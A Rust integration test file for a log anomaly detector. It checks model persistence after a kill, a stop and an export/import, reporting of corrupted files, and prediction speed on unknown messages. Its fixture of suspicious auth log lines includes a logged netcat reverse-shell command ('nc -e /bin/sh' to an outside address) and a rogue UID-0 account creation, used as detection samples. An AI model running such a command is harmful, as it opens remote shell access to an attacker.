//! A training that was answered is there after whatever comes: the same verdicts after a kill and a stop, and
//! elsewhere; damage is told; unknown messages cost no more than known ones.
#![expect(clippy::unwrap_used, reason = "helpers of tests fail by panicking")]

use std::{fs, path::Path, time::Instant};

use serde_json::{Value as Json, json};
use testkit::Server;

const BINARY: &str = env!("CARGO_BIN_EXE_log-sentinel");

fn start(data: &Path) -> Server {
    Server::start(Path::new(BINARY), data, &[]).unwrap()
}

async fn post(server: &Server, path: &str, body: String) -> (u16, Json) {
    let request = server.http.post(format!("{}{path}", server.anomaly_url));
    let response = request.header("content-type", "application/x-ndjson").body(body).send().await.unwrap();
    (response.status().as_u16(), response.json().await.unwrap())
}

async fn get(server: &Server, path: &str) -> Json {
    let url = format!("{}{path}", server.anomaly_url);
    server.http.get(url).send().await.unwrap().json().await.unwrap()
}

fn line(n: u64, source: &str, message: &str) -> String {
    json!({"timestamp": 1_700_000_000 + n * 3, "level": "info", "message": message, "source": source, "host": "web-1"})
        .to_string()
        + "\n"
}

/// Ordinary lines of an auth.log.
fn auth(count: u64) -> String {
    let one = |n: u64| match n % 4 {
        0 => line(
            n,
            "CRON",
            &format!("pam_unix(cron:session): session opened for user root by (uid={})", n % 2),
        ),
        1 => line(n, "sshd", &format!("Connection closed by 10.0.0.{} port {}", n % 9, 30_000 + n % 9_999)),
        _ => {
            let user = ["deploy", "backup", "alice"][n as usize % 3];
            let message = format!(
                "Accepted publickey for {user} from 10.0.0.{} port {} ssh2",
                n % 9,
                40_000 + n * 7 % 9_999
            );
            line(n, "sshd", &message)
        }
    };
    (0..count).map(one).collect()
}

/// Twenty lines that no ordinary day has.
fn strange() -> String {
    let events = [
        ("sshd", "Failed password for invalid user admin from 203.0.113.9 port 50022 ssh2"),
        ("sshd", "error: kex_exchange_identification: banner line contains invalid characters"),
        ("sudo", "www-data : user NOT in sudoers ; TTY=pts/0 ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.77"),
        ("kernel", "Out of memory: Killed process 4242 (mysqld)"),
        ("useradd", "new user: name=toor, UID=0, GID=0"),
    ];
    (0..20).map(|n| line(20_000, events[n % 5].0, &format!("{} [{n}]", events[n % 5].1))).collect()
}

async fn predicted(server: &Server) -> Vec<Json> {
    let (status, answer) = post(server, "/predict", strange()).await;
    assert_eq!(status, 200, "{answer}");
    let answers = answer.as_array().unwrap().clone();
    assert_eq!(answers.len(), 20);
    answers
}

#[track_caller]
fn same(before: &[Json], after: &[Json]) {
    for (before, after) in before.iter().zip(after) {
        let score = |told: &Json| told["anomaly_score"].as_f64().unwrap();
        assert!((score(before) - score(after)).abs() < 1e-6, "{before} became {after}");
        for member in ["is_anomaly", "state", "reasons", "template", "nearest_template"] {
            assert_eq!(before[member], after[member], "{member}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_trained_is_there_after_a_kill_and_a_stop_and_elsewhere() {
    let data = tempfile::tempdir().unwrap();
    let (here, there) = (data.path().join("here"), data.path().join("there"));
    let mut server = start(&here);
    let (status, trained) = post(&server, "/train", auth(5_000)).await;
    assert_eq!((status, &trained["state"]), (200, &json!("trained")), "{trained}");
    let before = predicted(&server).await;
    let flagged = before.iter().filter(|told| told["is_anomaly"] == true).count();
    assert!(flagged >= 12, "{flagged} of 20 flagged: {before:?}");
    for killed in [true, false, true] {
        if killed {
            server.kill().unwrap();
        } else {
            assert!(server.terminate().unwrap().success());
        }
        server = start(&here);
        assert_eq!(get(&server, "/model").await["version"], trained["model"]);
        same(&before, &predicted(&server).await);
    }
    // Too few for a model are kept, too.
    let other = start(&there);
    let (status, few) = post(&other, "/train", auth(2)).await;
    assert_eq!((status, &few["needed"]), (200, &json!(1_998)));
    other.kill().unwrap();
    let other = start(&there);
    assert_eq!(get(&other, "/model").await["needed"], 1_998);
    // Carried elsewhere it judges as it does here, and says so where its history does not come along.
    let version = trained["model"].as_str().unwrap();
    let url = format!("{}/models/{version}/export", server.anomaly_url);
    let carried = server.http.get(url).send().await.unwrap().bytes().await.unwrap();
    let request = other.http.post(format!("{}/models/import", other.anomaly_url)).body(carried);
    let imported: Json = request.send().await.unwrap().json().await.unwrap();
    let path = format!("/models/{}/activate", imported["version"].as_str().unwrap());
    assert_eq!(post(&other, &path, String::new()).await.0, 200);
    same(&before, &predicted(&other).await);
    other.kill().unwrap();
    let other = start(&there);
    same(&before, &predicted(&other).await);
}

#[tokio::test(flavor = "multi_thread")]
async fn damage_to_what_was_learned_is_told() {
    let data = tempfile::tempdir().unwrap();
    let server = start(data.path());
    let older = post(&server, "/train", auth(2_100)).await.1["model"].as_str().unwrap().to_owned();
    let chosen = post(&server, "/train", auth(2_200)).await.1["model"].as_str().unwrap().to_owned();
    let event = json!({"event": {"message": "a drill"}, "label": "normal"}).to_string();
    let request = server.http.post(format!("{}/feedback", server.anomaly_url));
    let given: Json = request.body(event.clone()).send().await.unwrap().json().await.unwrap();
    server.kill().unwrap();
    let models = data.path().join("models");
    for path in [models.join(&chosen).join("model.bin"), models.join("feedback")] {
        let mut bytes = fs::read(&path).unwrap();
        let half = bytes.len() / 2;
        bytes[half] ^= 1;
        fs::write(&path, bytes).unwrap();
    }
    let server = start(data.path());
    let model = get(&server, "/model").await;
    assert_eq!(model["version"], json!(older));
    assert!(model["problem"].as_str().unwrap().contains(&chosen), "{model}");
    let ready = server.get("/readyz", &[]).await.unwrap();
    let reason = ready["components"]["learned"]["reason"].as_str().unwrap();
    assert!(reason.contains(&chosen) && reason.contains("feedback.refused"), "{ready}");
    let metrics =
        server.http.get(format!("{}/metrics", server.url)).send().await.unwrap().text().await.unwrap();
    assert!(metrics.contains("\nlog_sentinel_damaged_learned_files 2\n"), "{metrics}");
    let request = server.http.post(format!("{}/feedback", server.anomaly_url));
    let again: Json = request.body(event).send().await.unwrap().json().await.unwrap();
    assert!(again["id"].as_u64() > given["id"].as_u64(), "{again}");
}

#[tokio::test(flavor = "multi_thread")]
async fn unknown_messages_cost_no_more_than_some_known_ones() {
    let data = tempfile::tempdir().unwrap();
    let server = start(data.path());
    // Many templates: what a comparison with each would cost.
    let word = |n: u64| -> String {
        (0..4).map(|place| char::from(b'a' + (n / 26u64.pow(place) % 26) as u8)).collect()
    };
    let varied: String = (0..5_000)
        .map(|n| {
            line(n, "app", &format!("{} {} handled the {} request", word(n * 7919), word(n * 31), word(n)))
        })
        .collect();
    assert_eq!(post(&server, "/train", varied.clone()).await.0, 200);
    let known: String = varied.lines().take(500).map(|line| format!("{line}\n")).collect();
    let unknown: String = (0..500)
        .map(|n| {
            line(
                n,
                "app",
                &format!(
                    "the {} unit of {} was handled without a {}",
                    word(n + 77_777),
                    word(n),
                    word(n * 3)
                ),
            )
        })
        .collect();
    let took = async |body: &String| {
        let mut best = f64::MAX;
        for _ in 0..3 {
            let begun = Instant::now();
            assert_eq!(post(&server, "/predict", body.clone()).await.0, 200);
            best = best.min(begun.elapsed().as_secs_f64());
        }
        best
    };
    let (known, unknown) = (took(&known).await, took(&unknown).await);
    assert!(unknown < 20.0 * known + 0.5, "500 known {known:.3} s, 500 unknown {unknown:.3} s");
    assert!(server.terminate().unwrap().success());
}
